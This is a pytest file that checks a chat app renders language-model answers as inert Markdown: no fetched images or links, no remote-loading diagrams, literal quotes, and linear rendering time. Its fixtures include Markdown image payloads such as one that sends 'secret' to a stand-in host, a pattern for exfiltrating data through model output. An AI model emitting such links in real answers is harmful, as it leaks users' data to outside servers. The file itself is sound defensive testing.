"""Answers as Markdown, read by a real parser: nothing is fetched, and quotes are literal."""

from __future__ import annotations

import pytest
from hostile import HOSTILE
from hypothesis import given
from hypothesis import strategies as st
from streamlit_markdown import READER, acts, fetches, runs
from waiting import ends_soon

from ragfilter.models.chat import MAX_BYTES
from ragfilter.ui.look.prose import literal, message, on_button, written

FETCHES = (
    "![px](http://x/leak.png?q=secret)",
    "[here](http://x)",
    "![px][a]\n\n[a]: http://x/leak.png",
    "[a]\n\n[a]: http://x",
    "[1]: http://x\n\nSee [1].",
    "\\![px](http://x) and \\\\![px](http://x)",
    "[![px](http://x/a.png)](http://x)",
    "* ![px](</x>)\n> ![px]( http://x 'y' )",
)


def kinds(markdown: str) -> set[str]:
    """The kinds of elements in the text, as read by a Markdown parser."""
    tokens = READER.parse(markdown)
    return {t.type for t in tokens} | {c.type for t in tokens for c in t.children or ()}


@pytest.mark.parametrize("text", FETCHES)
def test_no_picture_and_no_link_is_left(text: str) -> None:
    assert kinds(text) & {"image", "link_open"}
    assert not kinds(written(text)) & {"image", "link_open"}


@given(st.text(alphabet="![]()<>:\\\"' \nax1`*_~", max_size=40), st.sampled_from(FETCHES))
def test_no_text_around_it_brings_it_back(text: str, fetch: str) -> None:
    for whole in (text + fetch, fetch + text, text + fetch + text):
        assert "image" not in kinds(written(whole))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It needs 10 [1][2].", "It needs 10 **[1][2]**."),
        ("**Ten**, see [1, 3]: a `matrix`.", "**Ten**, see **[1, 3]**\\: a `matrix`."),
        ("It costs $5 or $6 [2]", "It costs \\$5 or \\$6 **[2]**"),
    ],
)
def test_a_model_may_format(text: str, shown: str) -> None:
    assert written(text) == shown


@pytest.mark.parametrize("text", HOSTILE)
def test_text_from_outside_stays_to_the_letter_and_does_nothing(text: str) -> None:
    assert acts(literal(text)) == set()
    assert fetches(written(text)) == set()
    assert "\n" not in literal(text)
    shown = " ".join(runs(literal(text))).replace("\u2060", "")
    assert " ".join(shown.split()) == " ".join(text.split())


@given(st.text(alphabet="![](){}<>:/\\\"'@$&#`*_~|+=-. \n\twax1", max_size=30), st.sampled_from(HOSTILE))
def test_no_text_around_it_makes_it_act(text: str, hostile: str) -> None:
    for whole in (text + hostile, hostile + text, text):
        assert acts(f"Open {literal(whole)}.") == set()
        assert acts(literal(whole)) == set()


def test_an_everyday_title_gets_no_invisible_sign() -> None:
    for title in ("Level 7-9: 10; AC −3.", "auth-api:TokenRequest", "10:30 (a/b), c.d"):
        assert literal(title).replace("\\", "") == title


@pytest.mark.parametrize("title", [":material/home: Troll", ":smile:", ": a", "", "Troll: a"])
def test_a_title_on_a_button_begins_with_no_icon(title: str) -> None:
    shown = on_button(title)
    assert shown.replace("\u2060", "") == title
    assert not shown.startswith((":material", ":smile"))


def test_a_message_keeps_its_commands() -> None:
    assert message("No *x*: run `ragfilter index a_b` first") == (r"No \*x\*: run `ragfilter index a_b` first")
    for text in HOSTILE:
        assert acts(message(f"There is no {text!r}.")) <= {"code_inline"}
        assert acts(message(f"There is no {text}.")) <= {"code_inline"}


@pytest.mark.parametrize("fence", ["```mermaid\n{}\n```", "~~~~ Mermaid x\n{}\n~~~~", "> ```&#109;ermaid\n> {}\n> ```"])
def test_no_diagram_is_drawn(fence: str) -> None:
    text = fence.format('flowchart\na@{ img: "http://zqx.example/a.png" }')
    assert "diagram" in fetches(text)
    assert fetches(written(text)) == set()


@pytest.mark.parametrize("sign", [*"`~\\$![]:*_ <&\n", "[1]", "![", "](", "``` ", "[1,", "\\`"])
def test_a_long_run_of_signs_takes_time_in_proportion(sign: str) -> None:
    """An LLM may answer with nothing else, and every session waits until it is drawn. In quadratic
    time, the longest would take minutes."""
    text = sign * (MAX_BYTES // len(sign))
    with ends_soon():
        written(text)
        literal(text)


@pytest.mark.parametrize("text", ["$x$", r"\$x\$", r"\\$x\\$", "$$x$$"])
def test_no_formula_is_set(text: str) -> None:
    assert "formula" not in acts(written(text))
